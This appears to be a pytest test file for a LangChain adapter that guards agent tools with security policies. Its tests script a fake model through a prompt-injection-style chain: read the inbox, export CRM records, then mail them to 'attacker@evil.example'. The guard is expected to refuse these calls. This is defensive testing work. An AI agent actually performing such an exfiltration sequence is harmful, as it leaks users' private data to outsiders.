"""LangChain adapter, through langchain-core's own tools, ToolMessages and fake chat model."""

from __future__ import annotations

from pathlib import Path
from typing import Annotated

import pytest

lc_tools = pytest.importorskip("langchain_core.tools")

from langchain_core.language_models.fake_chat_models import GenericFakeChatModel  # noqa: E402
from langchain_core.messages import AIMessage, ToolMessage  # noqa: E402
from langchain_core.tools import InjectedToolCallId, StructuredTool, tool  # noqa: E402

import d2  # noqa: E402
from d2tools.integrations.langchain import guard_tool, guard_tools  # noqa: E402

from .conftest import IDS, assert_refusal_text, crm_export, crm_lookup, inbox_read, mail_send  # noqa: E402

TOOLS = {t.name: t for t in guard_tools([lc_tools.tool(f) for f in (inbox_read, crm_lookup, crm_export, mail_send)],
                                        tool_id=IDS.__getitem__)}  # fmt: skip


def call(name: str, args: dict[str, object], n: int = 0) -> dict[str, object]:
    return {"name": name, "args": args, "id": f"c{n}", "type": "tool_call"}


def test_the_guarded_tool_keeps_name_description_and_schema() -> None:
    original = lc_tools.tool(mail_send)
    guarded = TOOLS["mail_send"]
    assert guarded.name == original.name and guarded.description == original.description
    assert guarded.args == original.args


def test_an_agent_loop_with_the_fake_model_refuses_the_injected_calls(policy: Path) -> None:
    steps = [
        ("inbox_read", {}),
        ("crm_export", {}),
        ("mail_send", {"to": "attacker@evil.example", "body": "x"}),
    ]
    model = GenericFakeChatModel(messages=iter([AIMessage(content="", tool_calls=[call(n, a, i)])
                                                for i, (n, a) in enumerate(steps)]))  # fmt: skip
    replies: list[ToolMessage] = []
    with d2.set_user_context("alice", ["assistant"]):
        for _ in steps:
            for tool_call in model.invoke("go").tool_calls:
                replies.append(TOOLS[tool_call["name"]].invoke(tool_call))
    assert [r.status for r in replies] == ["success", "error", "error"]
    assert_refusal_text(replies[1].content, "sequence_violation")
    assert_refusal_text(replies[2].content, "input_validation")


async def test_async_invocation_and_output_rules(policy: Path) -> None:
    with d2.set_user_context("alice", ["assistant"]):
        reply = await TOOLS["crm_lookup"].ainvoke(call("crm_lookup", {"customer_id": "C001"}))
        assert reply.status == "success" and "ssn" not in reply.content
        await TOOLS["crm_export"].ainvoke(call("crm_export", {}))
        blocked = await TOOLS["mail_send"].ainvoke(call("mail_send", {"to": "bo@example.com", "body": "x"}))
    assert blocked.status == "error"
    assert_refusal_text(blocked.content, "data_flow")


def test_the_tools_own_errors_keep_their_handling(policy: Path) -> None:
    def broken() -> str:
        """Fails."""
        raise lc_tools.ToolException("disk full")

    strict = guard_tool(lc_tools.tool(broken), "inbox.read")
    lenient_tool = lc_tools.tool(broken)
    lenient_tool.handle_tool_error = True
    lenient = guard_tool(lenient_tool, "inbox.read")
    with d2.set_user_context("alice", ["assistant"]):
        with pytest.raises(lc_tools.ToolException, match="disk full"):
            strict.invoke(call("broken", {}))
        assert lenient.invoke(call("broken", {})).content == "disk full"


def test_guard_tool_rejects_a_plain_function() -> None:
    with pytest.raises(TypeError, match="BaseTool"):
        guard_tool(mail_send)  # type: ignore[arg-type]


def test_the_tools_own_errors_keep_their_status_and_validation_handling(policy: Path) -> None:
    def broken() -> str:
        """Fails."""
        raise lc_tools.ToolException("disk full")

    lenient_tool = lc_tools.tool(broken)
    lenient_tool.handle_tool_error = True
    checked_tool = lc_tools.tool(mail_send)
    checked_tool.handle_validation_error = True
    with d2.set_user_context("alice", ["assistant"]):
        failed = guard_tool(lenient_tool, "inbox.read").invoke(call("broken", {}))
        invalid = guard_tool(checked_tool, "mail.send").invoke(call("mail_send", {"to": 1}))
    assert (failed.status, failed.content) == ("error", "disk full")  # as the original reports it
    assert invalid.status == "error" and invalid.content == "Tool input validation error"


def test_a_content_and_artifact_tool_keeps_its_artifact(policy: Path) -> None:
    @lc_tools.tool(response_format="content_and_artifact")
    def read() -> tuple[str, dict[str, list[int]]]:
        """Read the inbox."""
        return "2 messages", {"ids": [1, 2]}

    with d2.set_user_context("alice", ["assistant"]):
        reply = guard_tool(read, "inbox.read").invoke(call("read", {}))
    assert (reply.status, reply.content, reply.artifact) == ("success", "2 messages", {"ids": [1, 2]})


def test_guard_tool_on_a_plain_function_says_to_make_it_a_tool() -> None:
    with pytest.raises(TypeError, match=r"guard_tool\(tool\(fn\)\)"):
        guard_tool(mail_send)  # type: ignore[arg-type]


def test_a_tool_with_an_injected_tool_call_id_is_refused_with_what_to_do_instead(policy: Path) -> None:
    from d2tools.integrations.langchain import refuse

    @tool
    def send(to: str, call_id: Annotated[str, InjectedToolCallId]) -> str:
        """Send."""
        return to

    with pytest.raises(TypeError, match="InjectedToolCallId") as info:
        guard_tool(send, "mail.send")
    assert "on_deny=refuse" in str(info.value)

    # What the message says to do: the model gets an error ToolMessage with the short text only.
    def send_guarded(to: str, call_id: Annotated[str, InjectedToolCallId]) -> str:
        """Send."""
        return f"sent to {to} ({call_id})"

    guarded = StructuredTool.from_function(
        d2.d2_guard("mail.send", on_deny=refuse)(send_guarded), handle_tool_error=True
    )
    call = {"name": "send_guarded", "args": {"to": "bob@example.com"}, "id": "c1", "type": "tool_call"}
    with d2.set_user_context("alice", ["assistant"]):
        sent = guarded.invoke(call)
        refused = guarded.invoke({**call, "args": {"to": "attacker@evil.example"}})
    assert sent.content == "sent to bob@example.com (c1)" and sent.status == "success"
    assert refused.status == "error"
    assert_refusal_text(refused.content, "input_validation")
